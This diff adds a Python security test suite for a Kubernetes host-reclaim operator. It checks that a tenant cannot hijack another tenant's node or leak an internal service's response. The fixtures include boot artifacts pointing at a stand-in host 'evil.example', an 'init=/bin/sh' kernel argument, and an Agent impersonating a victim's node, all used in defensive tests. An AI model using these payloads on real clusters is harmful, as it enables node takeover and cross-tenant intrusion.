@@ -1,0 +1,178 @@
+"""Who may make reclaim restart a machine: a tenant's Agent reaches only the tenant's own clusters and hosts."""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import http.server
+import json
+import os
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from hostler.instant import iso
+from hostler.sandbox import Sandbox
+from hostler.sandbox import http as sandbox_http
+from hostler.sandbox.load import create
+from tests.real.accounts import token_of
+from tests.real.operating import Running, hostler
+from tests.real.reclaiming import GROUP, OURS, Case, Make, Site, making, site, until
+from tests.real.conftest import own_namespace
+
+Json = dict[str, Any]
+SECRET_WORDS = "the-secret-of-an-internal-service"
+EVIL = {"kernel": "http://evil.example/kernel", "initrd": "http://evil.example/initrd", "rootfs": "http://evil.example/r"}
+
+
+@pytest.fixture(scope="module")
+def clusters(sandbox: Sandbox, home: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    with site(sandbox, sandbox, tmp_path_factory.mktemp("hub"), home) as made:
+        yield made
+
+
+@pytest.fixture(scope="module")
+def running(clusters: Site) -> Iterator[Running]:
+    with clusters.running() as started:
+        yield started
+
+
+@pytest.fixture
+def make(clusters: Site, namespace: str, tmp_path: Path) -> Iterator[Make]:
+    with making(clusters, namespace, tmp_path) as one:
+        yield one
+
+
+@dataclass
+class Tenant:
+    """A service account that may write Agents and InfraEnvs in its own namespace, and nothing else."""
+
+    site: Site
+    namespace: str
+    token: str
+
+    def call(self, method: str, path: str, body: Json | None = None) -> tuple[int, Json]:
+        port, tls = self.site.hub.state.ports["kube-apiserver"], sandbox_http.trust(self.site.hub.layout)
+        with contextlib.closing(http.client.HTTPSConnection("127.0.0.1", port, timeout=60, context=tls)) as connection:
+            content = "application/merge-patch+json" if method == "PATCH" else "application/json"
+            headers = {"Authorization": f"Bearer {self.token}", "Content-Type": content}
+            connection.request(method, path, json.dumps(body) if body is not None else None, headers)
+            answer = connection.getresponse()
+            return answer.status, json.loads(answer.read() or b"{}")
+
+    def may(self, verb: str, group: str, resource: str, namespace: str) -> bool:
+        asked = {"namespace": namespace, "verb": verb, "group": group, "resource": resource}
+        review = {"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": asked}}
+        path = "/apis/authorization.k8s.io/v1"
+        code, answer = self.call(
+            "POST", f"{path}/selfsubjectaccessreviews", {"apiVersion": path.removeprefix("/apis/"), **review}
+        )
+        assert code == 201, answer
+        return bool(answer["status"]["allowed"])
+
+    def patch(self, plural: str, name: str, body: Json, *, status: bool = False) -> None:
+        code, answer = self.call("PATCH", f"{self._path(plural)}/{name}{'/status' if status else ''}", body)
+        assert code == 200, answer
+
+    def create(self, kind: str, plural: str, metadata: Json, spec: Json) -> None:
+        body = {"apiVersion": f"{GROUP}/v1beta1", "kind": kind, "metadata": metadata, "spec": spec}
+        code, answer = self.call("POST", self._path(plural), body)
+        assert code == 201, answer
+
+    def _path(self, plural: str) -> str:
+        return f"/apis/{GROUP}/v1beta1/namespaces/{self.namespace}/{plural}"
+
+    def infra_env(self, artifacts: Json, *words: str) -> None:
+        arguments = [{"operation": "append", "value": word} for word in words]
+        spec = {"pullSecretRef": {"name": "none"}, "kernelArguments": arguments}
+        self.create("InfraEnv", "infraenvs", {"name": "env"}, spec)
+        self.patch("infraenvs", "env", {"status": {"bootArtifacts": artifacts}}, status=True)
+
+    def agent(self, name: str, victim: Case) -> Case:
+        """An Agent of the tenant that claims to be the victim's node, bound to the victim's ClusterDeployment."""
+        bound = {"name": "old", "namespace": victim.namespace}
+        spec = {"approved": True, "role": "worker", "hostname": victim.node, "clusterDeploymentName": bound}
+        self.create("Agent", "agents", {"name": name, "labels": {f"infraenvs.{GROUP}": "env"}}, spec)
+        self.patch("agents", name, {"status": {"debugInfo": {"state": "installed"}}}, status=True)
+        return Case(self.site, self.namespace, victim.node, victim.scratch, name)
+
+
+@pytest.fixture
+def tenant(clusters: Site) -> Iterator[Tenant]:
+    with own_namespace(clusters.hub, "tenant") as name:
+        rbac, meta = "rbac.authorization.k8s.io", {"name": "tenant", "namespace": name}
+        resources = ["agents", "agents/status", "infraenvs", "infraenvs/status"]
+        rules = [{"apiGroups": [GROUP], "resources": resources, "verbs": ["*"]}]
+        create(clusters.hub, [
+            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta},
+            {"apiVersion": f"{rbac}/v1", "kind": "Role", "metadata": meta, "rules": rules},
+            {"apiVersion": f"{rbac}/v1", "kind": "RoleBinding", "metadata": meta,
+             "roleRef": {"apiGroup": rbac, "kind": "Role", "name": "tenant"},
+             "subjects": [{"kind": "ServiceAccount", **meta}]},
+        ])  # fmt: skip
+        made = Tenant(clusters, name, token_of(clusters.hub, name, "tenant"))
+        until(lambda: made.may("patch", GROUP, "agents/status", name), "the tenant's role is in force")
+        yield made
+        for one in clusters.here.items(f"/apis/{GROUP}/v1beta1/namespaces/{name}/agents"):
+            path = f"/apis/{GROUP}/v1beta1/namespaces/{name}/agents/{one['metadata']['name']}"
+            clusters.here.call("PATCH", path, {"metadata": {"finalizers": None}})
+
+
+def system_uuid(case: Case) -> str:
+    return str(case.site.there.get(f"/api/v1/nodes/{case.node}")["status"]["nodeInfo"]["systemUUID"]).lower()
+
+
+def test_tenants_agent_does_not_reach_another_tenants_cluster(
+    clusters: Site, running: Running, make: Make, tenant: Tenant
+) -> None:
+    victim = make()
+    assert not tenant.may("get", "", "secrets", victim.namespace)
+    assert not tenant.may("get", "hive.openshift.io", "clusterdeployments", victim.namespace)
+    assert not tenant.may("create", "apps", "daemonsets", "assisted-installer")
+    tenant.infra_env(EVIL, "init=/bin/sh")
+    case = tenant.agent(system_uuid(victim), victim)
+    until(lambda: case.agent()["status"].get("deprovision_info"), "the cluster is noted on the Agent")
+    tenant.patch("agents", case.name, {"spec": {"clusterDeploymentName": None}})
+    until(lambda: case.condition()[1] not in ("", "Deciding"), "it is decided")
+    ended = until(lambda: case.state != "installed" and (case.daemon_set() or case.condition()[1]), "an end")
+    print("SEEN", case.state, case.condition(), case.message(), json.dumps(ended)[:3000])
+    time.sleep(2)
+    print("DAEMONSET", json.dumps(case.daemon_set().get("spec", {}).get("template", {}).get("spec", {}))[:2500])
+    assert case.daemon_set() == {}
+
+
+class Internal(http.server.BaseHTTPRequestHandler):
+    """A service that only the operator can reach, at the address that a tenant's kubeconfig names."""
+
+    def do_GET(self) -> None:
+        self.send_response(500, SECRET_WORDS)
+        self.end_headers()
+        self.wfile.write(json.dumps({"message": f"{SECRET_WORDS}, body"}).encode())
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+def test_no_word_of_a_tenants_server_is_in_a_condition(
+    clusters: Site, running: Running, make: Make, tenant: Tenant
+) -> None:
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Internal)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    kubeconfig = {
+        "apiVersion": "v1", "kind": "Config", "current-context": "c", "users": [{"name": "u", "user": {"token": "t"}}],
+        "clusters": [{"name": "c", "cluster": {"server": f"http://127.0.0.1:{server.server_port}"}}],
+        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
+    }  # fmt: skip
+    case = make(kubeconfig=json.dumps(kubeconfig).encode())
+    case.unbind()
+    until(lambda: case.condition()[1] == "Deciding", "the cluster is waited for")
+    print("SEEN", case.message())
+    told = hostler(clusters.hub.kubeconfig, "explain", f"agent/{case.name}", "--operator", running.url)
+    print("EXPLAIN", told.stdout)
+    assert SECRET_WORDS not in case.message()
+    assert SECRET_WORDS not in told.stdout
